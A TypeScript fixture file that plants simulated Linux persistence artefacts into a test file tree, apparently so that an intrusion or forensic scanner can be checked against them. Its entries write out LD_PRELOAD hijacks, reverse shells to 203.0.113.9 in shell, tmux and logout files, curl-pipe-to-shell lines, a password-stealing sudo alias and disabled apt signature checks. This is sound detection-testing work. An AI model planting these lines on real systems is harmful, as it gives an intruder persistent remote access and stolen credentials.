/** What is loaded into other programs, what shells read, and where names lead. */

import { elf, type Sign } from '../sign.ts';

export const environmentSigns: readonly Sign[] = [
	{ id: 'ld-so-preload', family: 'environment', what: 'a library in every program', plant: tree => {
		tree.write('/etc/ld.so.preload', '/lib/x86_64-linux-gnu/libselinux.so.2\n');
		tree.write('/usr/lib/x86_64-linux-gnu/libselinux.so.2', elf('readdir readdir64 access Azazel', 'library'));
	}, names: ['/etc/ld.so.preload'], also: ['/usr/lib/x86_64-linux-gnu/libselinux.so.2'] },
	{ id: 'ld-so-conf', family: 'environment', what: 'libraries first from a place anyone may write', plant: tree => tree.write('/etc/ld.so.conf.d/000-gcc.conf', '/var/tmp/lib\n'), names: ['/etc/ld.so.conf.d/000-gcc.conf'] },
	{ id: 'environment-preload', family: 'environment', what: 'LD_PRELOAD for each login', plant: tree => {
		tree.append('/etc/environment', 'LD_PRELOAD="/usr/share/fonts/.uuid/libfontd.so"\n');
		tree.write('/usr/share/fonts/.uuid/libfontd.so', elf('libfontd', 'library'));
	}, names: ['/etc/environment'], also: ['/usr/share/fonts/.uuid'] },
	{ id: 'default-preload', family: 'environment', what: 'LD_PRELOAD for one service', plant: tree => tree.append('/etc/default/cron', 'LD_PRELOAD=/var/lib/.c/libcron.so\n'), names: ['/etc/default/cron'] },
	{ id: 'environment-d', family: 'environment', what: 'LD_AUDIT for every session', plant: tree => tree.write('/etc/environment.d/90-locale.conf', 'LD_AUDIT=/tmp/.a.so\n'), names: ['/etc/environment.d/90-locale.conf'] },
	{ id: 'pam-env', family: 'environment', what: 'a library through pam_env', plant: tree => tree.append('/etc/security/pam_env.conf', 'LD_PRELOAD DEFAULT=/var/tmp/.x.so\n'), names: ['/etc/security/pam_env.conf'] },
	{ id: 'ssh-environment', family: 'environment', what: 'a library through sshd', plant: tree => tree.write('/home/ada/.ssh/environment', 'LD_PRELOAD=/home/ada/.cache/.e.so\n', { owner: 'ada' }), names: ['/home/ada/.ssh/environment'] },
	{ id: 'nsswitch', family: 'environment', what: 'a service of names that no package ships', plant: tree => {
		tree.edit('/etc/nsswitch.conf', /^passwd:.*$/m, 'passwd:         files systemd cache');
		tree.write('/usr/lib/x86_64-linux-gnu/libnss_cache.so.2', elf('_nss_cache_getpwnam_r', 'library'));
	}, names: ['/etc/nsswitch.conf', '/usr/lib/x86_64-linux-gnu/libnss_cache.so.2'], also: ['/etc/nsswitch.conf', '/usr/lib/x86_64-linux-gnu/libnss_cache.so.2'] },
	{ id: 'hosts-updates', family: 'environment', what: 'the security mirror led elsewhere', plant: tree => tree.append('/etc/hosts', '203.0.113.77 security.debian.org deb.debian.org\n'), names: ['/etc/hosts'] },
	{ id: 'apt-source', family: 'environment', what: 'a source of packages that is trusted unseen', plant: tree => tree.write('/etc/apt/sources.list.d/debian-extra.list', 'deb [trusted=yes] http://203.0.113.9/debian ./\n'), names: ['/etc/apt/sources.list.d/debian-extra.list'] },
	{ id: 'apt-insecure', family: 'environment', what: 'apt told not to check signatures', plant: tree => tree.write('/etc/apt/apt.conf.d/98mirror', 'APT::Get::AllowUnauthenticated "true";\nAcquire::AllowInsecureRepositories "true";\n'), names: ['/etc/apt/apt.conf.d/98mirror'] },
	{ id: 'bashrc-root', family: 'environment', what: 'a shell of the intruder in root\'s bashrc', plant: tree => tree.append('/root/.bashrc', '\n(nohup bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &) 2>/dev/null\n'), names: ['/root/.bashrc'] },
	{ id: 'profile-d', family: 'environment', what: 'a profile that fetches and runs', plant: tree => tree.write('/etc/profile.d/gawk2.sh', '[ "$(id -u)" = 0 ] && (curl -fs http://203.0.113.9/r || wget -qO- http://203.0.113.9/r) | sh &\n'), names: ['/etc/profile.d/gawk2.sh'] },
	{ id: 'sudo-alias', family: 'environment', what: 'sudo as an alias of a program that asks for the password', plant: tree => {
		tree.append('/home/grace/.zshrc', "\nalias sudo='/home/grace/.local/share/.sudo/sudo'\n");
		tree.write('/home/grace/.local/share/.sudo/sudo', '#!/bin/sh\nread -sp "[sudo] password for $USER: " p; echo $p >> /tmp/.s; exec /usr/bin/sudo "$@"\n', { owner: 'grace', mode: 0o755 });
	}, names: ['/home/grace/.zshrc'], also: ['/home/grace/.local/share/.sudo'] },
	{ id: 'history-off', family: 'environment', what: 'no history for any shell', plant: tree => tree.append('/etc/profile', '\nunset HISTFILE\nexport HISTFILE=/dev/null HISTSIZE=0\n'), names: ['/etc/profile'] },
	{ id: 'path-tmp', family: 'environment', what: 'programs first from a temporary place', plant: tree => tree.append('/root/.profile', '\nexport PATH=/tmp/.bin:$PATH\n'), names: ['/root/.profile'] },
	{ id: 'prompt-command', family: 'environment', what: 'a command at each prompt', plant: tree => tree.append('/home/ada/.profile', '\nPROMPT_COMMAND=\'/home/ada/.cache/.p/k >/dev/null 2>&1\'\n'), names: ['/home/ada/.profile'] },
	{ id: 'bash-env', family: 'environment', what: 'a file read by each script', plant: tree => tree.append('/home/deploy/.bashrc', '\nexport BASH_ENV=/dev/shm/.benv\n'), names: ['/home/deploy/.bashrc'] },
	{ id: 'bash-logout', family: 'environment', what: 'run at logout', plant: tree => tree.write('/home/jürgen/.bash_logout', 'trap "" HUP; setsid python3 -c \'import pty,socket;s=socket.socket();s.connect(("203.0.113.9",9001));pty.spawn("/bin/sh")\' &\n', { owner: 'jürgen' }), names: ['/home/jürgen/.bash_logout'] },
	{ id: 'skel', family: 'environment', what: 'a line for accounts to come', plant: tree => tree.append('/etc/skel/.bashrc', '\ncurl -s http://203.0.113.9/s|bash >/dev/null 2>&1\n'), names: ['/etc/skel/.bashrc'] },
	{ id: 'vimrc', family: 'environment', what: 'an editor that runs a program', plant: tree => tree.append('/root/.vimrc', "autocmd VimEnter * silent! call system('curl -s 203.0.113.9/v|sh')\n"), names: ['/root/.vimrc'] },
	{ id: 'tmux', family: 'environment', what: 'a multiplexer that runs a program', plant: tree => tree.append('/home/ada/.tmux.conf', 'run-shell -b "/bin/bash -c \'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\'"\n'), names: ['/home/ada/.tmux.conf'] },
	{ id: 'ssh-proxycommand', family: 'environment', what: 'a client of ssh that runs a program first', plant: tree => tree.write('/etc/ssh/ssh_config.d/20-proxy.conf', 'Host *\n\tPermitLocalCommand yes\n\tLocalCommand sh -c "curl -s 203.0.113.9/%h|sh"\n\tProxyCommand /var/tmp/.pc %h %p\n'), names: ['/etc/ssh/ssh_config.d/20-proxy.conf'] },
	{ id: 'core-pattern', family: 'environment', what: 'a crash that starts a program as root', plant: tree => tree.write('/etc/sysctl.d/50-core.conf', 'kernel.core_pattern = |/usr/lib/.core/handler %p\n'), names: ['/etc/sysctl.d/50-core.conf'] },
	{ id: 'x-session', family: 'environment', what: 'run with each graphical session', plant: tree => tree.write('/etc/X11/Xsession.d/98vboxadd', '/usr/share/X11/.locale/x11d &\n'), names: ['/etc/X11/Xsession.d/98vboxadd'] },
	{ id: 'perl5lib', family: 'environment', what: 'a module in each Perl program', plant: tree => tree.write('/etc/profile.d/perl5.sh', 'export PERL5OPT="-Mevil" PERL5LIB=/var/tmp/.perl\n'), names: ['/etc/profile.d/perl5.sh'] },
];
